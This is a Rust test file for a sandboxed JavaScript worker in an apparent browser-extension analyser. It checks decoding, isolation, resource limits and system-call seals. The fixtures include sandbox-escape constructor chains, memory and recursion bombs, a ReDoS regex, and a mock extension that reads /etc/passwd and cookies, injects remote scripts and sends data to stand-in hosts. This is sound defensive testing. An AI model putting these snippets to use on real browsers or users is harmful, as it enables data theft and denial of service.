//! The sealed worker: what it answers, and what no script gets out of it.

use std::time::{Duration, Instant};

use crxhound::sandbox::{Budget, Worker};
use crxhound::script::evaluate::{DecoderJob, Evaluate};

/// The program under test.
const PROGRAM: &str = env!("CARGO_BIN_EXE_crxhound");

fn worker() -> Worker {
    Worker::with_program(PROGRAM, Budget::default())
}

fn job(prelude: &str, calls: &[&str]) -> DecoderJob {
    DecoderJob { prelude: prelude.to_owned(), calls: calls.iter().map(|call| (*call).to_owned()).collect() }
}

/// The value of one expression, as text.
fn value(worker: &Worker, expression: &str) -> Option<String> {
    worker.evaluate(&job("", &[&format!("String({expression})")])).remove(0)
}

#[test]
fn decoders_are_evaluated() {
    let worker = worker();
    let prelude =
        "const table = ['lo', 'hel']; (function (a) { a.push(a.shift()); })(table); function d(i) { return table[i]; }";
    let answer = worker.evaluate(&job(prelude, &["d(0) + d(1)", "missing()", "d(1)", "42", "atob('aGk=')", "unescape('%68')"]));
    let strings: Vec<_> = answer.iter().map(Option::as_deref).collect();
    assert_eq!(strings, [Some("hello"), None, Some("lo"), None, Some("hi"), Some("h")]);
    assert!(worker.take_problems("x").is_empty());
}

#[test]
fn packed_code_shows_itself() {
    let worker = worker();
    assert_eq!(worker.unpack("eval('1 + ' + '1'); setTimeout('go' + '()', 9)"), ["1 + 1", "go()"]);
    // JSFuck's way: every letter out of the words that the language itself says.
    let jsfuck = "[]['flat']['constructor']('return ' + (!![] + [])[0])";
    assert_eq!(worker.unpack(jsfuck), ["return t"]);
}

#[test]
fn no_request_sees_what_another_left_behind() {
    let worker = worker();
    worker.evaluate(&job("globalThis.left = 1; String.prototype.concat = () => 'tampered'", &["'a'.concat('b')"]));
    assert_eq!(value(&worker, "typeof left + 'a'.concat('b')").as_deref(), Some("undefinedab"));
}

#[test]
fn clock_and_chance_are_the_same_every_time() {
    let probe = "[Date.now(), new Date().toISOString(), Math.random(), Math.random(), new Date().getTimezoneOffset()]";
    let first = value(&worker(), probe);
    assert!(first.is_some());
    assert_eq!(first, value(&worker(), probe));
}

#[test]
fn constructor_chains_lead_nowhere() {
    let worker = worker();
    for expression in [
        "typeof process",
        "typeof require",
        "typeof Deno",
        "typeof (function(){}).constructor('return this')().process",
        "typeof atob.constructor('return this')().process",
        "typeof console.log.constructor('return process')",
        "typeof __created",
        "typeof XMLHttpRequest + typeof fetch + typeof WebSocket",
    ] {
        let answer = value(&worker, expression).unwrap_or_default();
        assert!(["undefined", "function", "undefinedundefinedundefined"].contains(&answer.as_str()), "{expression}: {answer}");
    }
    assert_eq!(value(&worker, "console.log.constructor('return typeof process')()").as_deref(), Some("undefined"));
    // Modules are not to be had.
    assert_eq!(value(&worker, "import('./secret.js') instanceof Promise").as_deref(), Some("true"));
}

#[test]
fn results_cannot_be_faked_by_printing() {
    let worker = worker();
    let fake = r#"console.log('{"decoded":{"values":["fake"],"ending":"complete"}}\n')"#;
    assert_eq!(worker.evaluate(&job(fake, &["'real\\n{}'"])), [Some("real\n{}".to_owned())]);
    let tampering = "JSON.stringify = () => 'fake'; Object.prototype.toJSON = () => 'fake'; Array.prototype.push = () => 0";
    assert_eq!(worker.evaluate(&job(tampering, &["'real'"])), [Some("real".to_owned())]);
}

/// What hostile code may cost: one answer, a bounded time, never more than that.
#[test]
fn bombs_end_the_child_and_nothing_else() {
    let budget = Budget { time: Duration::from_secs(4), losses: 100, steps: 5_000_000, ..Budget::default() };
    let worker = Worker::with_program(PROGRAM, budget);
    for (name, prelude) in [
        ("endless loop", "for (;;) {}"),
        ("endless loop in a catch", "for (;;) { try { throw 1 } catch {} }"),
        ("endless generator", "function* g() { for (;;) yield 1 } for (const x of g()) {}"),
        ("endless iterator in a native", "[...{ [Symbol.iterator]: () => ({ next: () => ({ done: false, value: 1 }) }) }]"),
        ("endless promises", "const f = () => Promise.resolve().then(f); f()"),
        ("recursion", "const f = () => f() + 1; f()"),
        ("recursion through natives", "const f = () => [1].map(f); f()"),
        ("recursion through getters", "const o = { get x() { return this.x } }; o.x"),
        ("recursion through a proxy", "const p = new Proxy({}, { get: (t, k, r) => r[k] }); p.x"),
        ("recursion through toString", "const o = { toString() { return '' + this } }; '' + o"),
        ("recursion through JSON", "const o = { toJSON() { return JSON.stringify(this) } }; JSON.stringify(o)"),
        ("deep JSON", "JSON.parse('['.repeat(1e6))"),
        ("deep eval", "eval('['.repeat(1e5))"),
        ("deep regular expression", "new RegExp('('.repeat(1e5))"),
        ("string bomb", "let s = 'x'; for (;;) s += s"),
        ("one huge string", "'x'.repeat(2 ** 30)"),
        ("padded string", "'x'.padEnd(2 ** 30, 'abc')"),
        ("array bomb", "const a = []; for (;;) a.push(new Array(1e5).fill(0))"),
        ("one huge array", "new Array(2 ** 32 - 1).fill(0)"),
        ("buffers", "const a = []; for (;;) a.push(new ArrayBuffer(2 ** 26))"),
        ("joined", "const a = Array(1e6).fill('x'.repeat(1e4)); a.join('')"),
    ] {
        let start = Instant::now();
        let answer = worker.evaluate(&job(prelude, &["'x'.repeat(3)"]));
        let spent = start.elapsed();
        assert_eq!(answer.len(), 1, "{name}");
        assert!(spent < Duration::from_secs(15), "{name} took {spent:?}");
        assert_eq!(value(&worker, "'alive'").as_deref(), Some("alive"), "after {name}");
    }
}

#[test]
fn an_answer_that_does_not_come_is_given_up() {
    let budget = Budget { time: Duration::from_millis(300), losses: 2, ..Budget::default() };
    let worker = Worker::with_program(PROGRAM, budget);
    // The backtracking of a regular expression is one instruction: only the clock ends it.
    let slow = "/(a+)+$/.test('a'.repeat(40) + 'b')";
    for _ in 0..3 {
        assert_eq!(value(&worker, slow), None);
    }
    let problems: Vec<_> = worker.take_problems("bg.js").into_iter().map(|problem| problem.message).collect();
    assert_eq!(problems, ["sealed worker: killed at its time limit"; 2]);
    assert_eq!(value(&worker, "1"), None, "no third child");
}

#[test]
fn a_program_that_is_no_worker_is_found_out() {
    let program = if cfg!(windows) { "C:\\Windows\\System32\\where.exe" } else { "/bin/true" };
    let worker = Worker::with_program(program, Budget::default());
    assert_eq!(value(&worker, "1"), None);
    assert_eq!(worker.take_problems("x").len(), 1);
}

#[test]
#[cfg(target_os = "linux")]
fn every_lock_of_linux_is_tried() {
    let locks = worker().locks().unwrap();
    let held: Vec<_> = locks.iter().filter(|lock| lock.held).map(|lock| lock.name.as_str()).collect();
    for name in ["memory", "core files", "writing to files", "new processes", "new files and sockets", "system calls"] {
        assert!(held.contains(&name), "{name} is not held: {locks:?}");
    }
    assert!(locks.iter().any(|lock| lock.name == "file access"), "landlock is at least tried");
}

/// An extension that sends by every road, reads its own files and others, and loads more code.
#[cfg(target_os = "linux")]
fn everything_that_leaves() -> crxhound::sandbox::protocol::Request {
    use std::collections::BTreeMap;

    use crxhound::sandbox::protocol::{Play, PlayScene, PlayScript, Request};
    let background = "fetch('https://a.invalid/'); fetch('/etc/passwd'); fetch('file:///etc/passwd'); new WebSocket('wss://a.invalid');\
        navigator.sendBeacon('https://a.invalid', 'x'); importScripts('https://a.invalid/x.js', 'more.js'); import('./more.js');\
        const x = new XMLHttpRequest(); x.open('GET', 'https://a.invalid'); x.send(); new Worker('https://a.invalid/w.js');\
        chrome.tabs.create({ url: 'https://a.invalid' }); chrome.runtime.connectNative('host'); eval('1'); setTimeout('2', 1);\
        chrome.downloads.download({ url: 'https://a.invalid/file' }); new RTCPeerConnection({ iceServers: [{ urls: 'stun:a.invalid' }] })";
    let content = "new Image().src = 'https://a.invalid/i'; document.cookie; localStorage.x = 1; document.body.innerHTML = '<img src=//a.invalid>';\
        const s = document.createElement('script'); s.src = 'https://a.invalid/s.js'; document.head.append(s); location.href = 'https://a.invalid'";
    let files = [("bg.js", background), ("c.js", content), ("more.js", "fetch('https://b.invalid')")];
    let script = |world: &str, file: &str| PlayScript { world: world.to_owned(), file: file.to_owned() };
    let word = |name: &str| (name.to_owned(), serde_json::json!("x"));
    let canary: serde_json::Map<_, _> =
        ["mail", "page", "cookie", "session", "server", "hook", "network", "header", "key"].map(word).into_iter().collect();
    let scene = serde_json::json!({
        "url": "https://site.example/", "title": "x", "origin": "https://site.example", "site": "site.example",
        "hosts": ["site.example"], "requests": ["https://site.example/"], "login": [], "traffic": ["https://site.example/"],
        "touched": ["https://site.example/"], "cookies": [], "canary": canary,
    });
    let setup = serde_json::json!({
        "id": "a".repeat(32), "manifest": {}, "permissions": ["downloads", "nativeMessaging", "tabs"], "worker": true, "pages": {},
    });
    Request::Play(Box::new(Play {
        setup: setup.to_string(),
        scenes: vec![PlayScene {
            scene: scene.to_string(),
            scripts: vec![script("background", "bg.js"), script("page", "c.js")],
        }],
        files: files.map(|(path, text)| (path.to_owned(), text.to_owned())).into(),
        pages: BTreeMap::new(),
        steps: 50_000_000,
        total: 50_000_000,
    }))
}

/// The system calls of a child that is given hostile scripts, and a whole extension: after it says that it is ready, it opens nothing, connects
/// nowhere and starts nothing.
#[test]
#[cfg(target_os = "linux")]
fn a_trace_of_the_child_shows_no_socket_and_no_file() {
    use std::io::Write;
    use std::process::{Command, Stdio};

    use crxhound::sandbox::protocol::Answer;
    if Command::new("strace").arg("-V").stdout(Stdio::null()).stderr(Stdio::null()).status().is_err() {
        assert!(std::env::var_os("CI").is_none(), "strace is needed for this test");
        let _ = writeln!(std::io::stderr(), "SKIPPED: strace is not installed, the seal of the worker is not traced");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let trace = folder.path().join("trace");
    let mut child = Command::new("strace")
        .args(["-f", "-q", "-s", "12", "-o"])
        .arg(&trace)
        .args([PROGRAM, "--sealed-worker", "536870912"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    for program in [
        "for (let i = 0; i < 1e5; i++) ({ i });",
        "Math.random(); new Date().toString(); new Date().toLocaleString(); performance",
        "import('/etc/passwd')",
        "throw new Error('x')",
        "new Array(1e6).fill('abc').join('')",
    ] {
        let request = serde_json::json!({ "unpack": { "program": program, "steps": 1_000_000 } });
        writeln!(input, "{request}").unwrap();
    }
    writeln!(input, "{}", serde_json::to_string(&everything_that_leaves()).unwrap()).unwrap();
    drop(input);
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success());
    let answers: Vec<Answer> = output.stdout.split(|byte| *byte == b'\n').flat_map(serde_json::from_slice).collect();
    let sinks = |answer: &&Answer| matches!(answer, Answer::Happened(event) if event.kind == "sink");
    assert!(answers.iter().filter(sinks).count() >= 6, "{answers:?}");
    assert!(matches!(answers.last(), Some(Answer::Played { .. })), "{answers:?}");
    let lines = std::fs::read_to_string(&trace).unwrap();
    let (_, sealed) = lines.split_once("write(1, \"{\\\"ready").expect("the child says that it is ready");
    let mut wrong = Vec::new();
    for line in sealed.lines().skip(1) {
        let Some((call, _)) = line.split_once('(') else { continue };
        let call = call.split_whitespace().last().unwrap_or_default();
        let harmless = [
            "read",
            "write",
            "mmap",
            "munmap",
            "mremap",
            "mprotect",
            "madvise",
            "brk",
            "futex",
            "sigaltstack",
            "rt_sigprocmask",
            "sched_yield",
            "exit",
            "exit_group",
            "clock_gettime",
        ];
        let refused = line.contains("= -1 EPERM") || line.contains("= -1 EMFILE");
        if !harmless.contains(&call) && !refused {
            wrong.push(line);
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
